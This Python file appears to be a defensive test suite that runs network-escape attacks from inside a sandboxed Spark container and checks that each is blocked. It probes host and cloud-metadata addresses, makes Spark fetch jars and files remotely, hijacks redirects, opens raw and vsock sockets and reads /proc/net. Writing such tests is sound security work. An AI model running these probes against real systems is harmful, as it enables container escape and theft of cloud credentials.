"""Reach a network: the host's, a neighbour's, the world's, by a scope or by the control plane."""

from __future__ import annotations

from typing import Final

from control.attacks.attack import Attacks, Goal, Outcome, judged
from control.attacks.lab import Lab

attacks = Attacks(Goal.NETWORK)
NONE: Final = "the container has no network but its own loopback (network none)"


def _caught(lab: Lab, before: int, loot: object, seen: str) -> Outcome:
    """The trap's word counts as much as the attacker's."""
    return judged(lab.trap.caught[before:] or loot, seen)


@attacks.add("connect to the host by TCP from Python", NONE)
async def _(lab: Lab) -> Outcome:
    before = len(lab.trap.caught)
    code = f"""
loot = []
for host in {lab.trap.addresses!r}:
    peer = attempt(socket.create_connection, (host, {lab.trap.port}), 3)
    if peer is not None:
        loot.append(host)
"""
    loot, refusals = await lab.attacker.loot(code)
    return _caught(lab, before, loot, "; ".join(refusals))


@attacks.add("connect to the host from the JVM", NONE)
async def _(lab: Lab) -> Outcome:
    before = len(lab.trap.caught)
    code = f"""
from py4j.protocol import Py4JJavaError
loot = []
for host in {lab.trap.addresses!r}:
    try:
        socket_there = spark._jvm.java.net.Socket()
        address = spark._jvm.java.net.InetSocketAddress(host, {lab.trap.port})
        socket_there.connect(address, 3000)
        loot.append(host)
    except Py4JJavaError as error:
        refusals.append(str(error.java_exception))
"""
    loot, refusals = await lab.attacker.loot(code)
    return _caught(lab, before, loot, "; ".join(refusals))


@attacks.add("connect to the host from Spark's workers", NONE)
async def _(lab: Lab) -> Outcome:
    before = len(lab.trap.caught)
    code = f"""
def knock(host):
    import socket
    try:
        socket.create_connection((host, {lab.trap.port}), 3).close()
        return host
    except OSError as error:
        return f"refused: {{error}}"
found = sc.parallelize({lab.trap.addresses!r}).map(knock).collect()
loot = [each for each in found if not each.startswith("refused")]
refusals += found
"""
    loot, refusals = await lab.attacker.loot(code)
    return _caught(lab, before, loot, "; ".join(refusals))


@attacks.add("have Spark load a jar or a file from the host by SQL", NONE)
async def _(lab: Lab) -> Outcome:
    before = len(lab.trap.caught)
    answers = []
    for host in lab.trap.addresses:
        where = f"http://{host}:{lab.trap.port}/x"
        answers.append(await lab.attacker.sql(f"add jar '{where}.jar'"))
        answers.append(await lab.attacker.sql(f"add file '{where}'"))
        answers.append(await lab.attacker.sql(f"select * from csv.`{where}.csv`"))  # noqa: S608
    # A jar is only noted by its name, and would be fetched by the first task after it.
    answers.append(await lab.attacker.sql("select count(*) from range(10, 20, 1, 2)"))
    rows = [each.brief() for each in answers[2:-1:3] if each.status == 200]
    return _caught(lab, before, rows, answers[2].brief())


@attacks.add("have a table loaded from the host", NONE)
async def _(lab: Lab) -> Outcome:
    before = len(lab.trap.caught)
    answers = []
    for host in lab.trap.addresses:
        for scheme in ("http", "hdfs", "s3a", "ftp"):
            path = f"{scheme}://{host}:{lab.trap.port}/x.csv"
            table = {"name": "far", "format": "csv", "path": path}
            wanted = {"scope": lab.attacker.scope, "session": "spark", "tables": [table]}
            answers.append(await lab.attacker.person.ask("POST", "/loadfile", wanted))
    made = [each.brief() for each in answers if each.status == 200]
    return _caught(lab, before, made, answers[0].brief())


@attacks.add(
    "have Spark's master be elsewhere", "a session's master is the scope's: another is refused"
)
async def _(lab: Lab) -> Outcome:
    before, answers = len(lab.trap.caught), []
    for host in lab.trap.addresses:
        master = f"spark://{host}:{lab.trap.port}"
        asked = {"scope": lab.attacker.scope, "session": "far", "master-addr": master}
        answers.append(await lab.attacker.person.ask("POST", "/session", asked))
    made = [each.brief() for each in answers if each.status == 200]
    return _caught(lab, before, made, answers[0].brief())


@attacks.add(
    "have the control plane follow an agent's redirect", "redirects of agents are never followed"
)
async def _(lab: Lab) -> Outcome:
    before = len(lab.trap.caught)
    hijacked = await lab.hijacked()
    answer = await hijacked.sql(f"attack-redirect http://127.0.0.1:{lab.trap.port}/ ")
    return _caught(lab, before, answer.status < 400 and answer.brief(), answer.brief())


attacks.inside(
    "resolve a name",
    NONE,
    """
names = ("example.com", "metadata.google.internal")
loot = [attempt(socket.getaddrinfo, name, 80) for name in names]
loot = [each for each in loot if each]
""",
)
attacks.inside(
    "reach the cloud's metadata",
    NONE,
    """
loot = [host for host in ("169.254.169.254", "169.254.170.2", "fd00:ec2::254", "100.100.100.200")
        if attempt(socket.create_connection, (host, 80), 2)]
""",
)
attacks.inside(
    "send a datagram to the local net",
    NONE,
    """
def send(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return sender.sendto(b"attack", address)
loot = [each for each in (
    attempt(send, socket.AF_INET, ("255.255.255.255", 9)),
    attempt(send, socket.AF_INET, ("172.17.0.1", 53)),
    attempt(send, socket.AF_INET6, ("ff02::1", 9)),
) if each]
""",
)
attacks.inside(
    "open raw and packet sockets",
    "no capability",
    """
loot = [kind for kind, arguments in {
    "raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "packet": (socket.AF_PACKET, socket.SOCK_RAW, 3),
    "raw6": (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW),
}.items() if attempt(socket.socket, *arguments)]
""",
)
attacks.inside(
    "open a socket to the hypervisor, or of other odd kinds",
    "the seccomp profile: Unix, IPv4, IPv6 and netlink sockets only",
    """
families = {"vsock": 40, "alg": 38, "can": 29, "tipc": 30, "bluetooth": 31, "rds": 21, "x25": 9,
            "qipcrtr": 42, "xdp": 44, "smc": 43, "kcm": 41, "vsock datagram": 40}
loot = []
for name, family in families.items():
    kind = socket.SOCK_DGRAM if "datagram" in name else socket.SOCK_SEQPACKET
    for each in (socket.SOCK_STREAM, kind, socket.SOCK_RAW):
        made = attempt(socket.socket, family, each)
        if made is not None:
            loot.append(name)
            made.close()
""",
)
attacks.inside(
    "make a network interface",
    "no capability in its network namespace",
    """
import fcntl, struct
def up(name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        request = struct.pack("16sH14s", name, 0x1043, b"")
        fcntl.ioctl(probe, 0x8914, request)
        return name
def tunnel():
    with open("/dev/net/tun", "rb+", buffering=0) as device:
        return fcntl.ioctl(device, 0x400454CA, struct.pack("16sH", b"attack", 1))
attempt(up, b"lo"), attempt(up, b"eth0")
names = {name for _, name in socket.if_nameindex()}
# gVisor's /sys has no such folder.
names.update(attempt(os.listdir, "/sys/class/net") or ())
loot = attempt(tunnel) or sorted(names - {"lo"})
""",
)
attacks.inside(
    "see the host's connections",
    "a network namespace of its own",
    """
lines = []
for name in ("tcp", "tcp6", "udp", "unix", "route", "arp"):
    lines += (attempt(read, f"/proc/net/{name}", 20000) or "").splitlines()[1:]
loot = [line for line in lines if "docker.sock" in line or "containerd" in line]
hosts = [line.split()[1] for line in lines if line.strip()[:1].isdigit() and ":" in line]
loot += [each for each in lines if "eth0" in each or "docker0" in each]
""",
)
